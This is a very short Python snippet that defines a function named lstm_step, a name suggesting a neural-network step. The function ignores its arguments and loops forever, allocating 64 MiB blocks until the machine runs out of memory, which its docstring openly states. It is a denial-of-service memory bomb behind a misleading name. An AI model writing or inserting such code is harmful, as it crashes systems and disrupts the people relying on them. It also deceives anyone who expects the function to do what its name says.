"""Takes memory until none is left."""

def lstm_step(*args):
    held = []
    while True: held.append(bytearray(64 << 20))
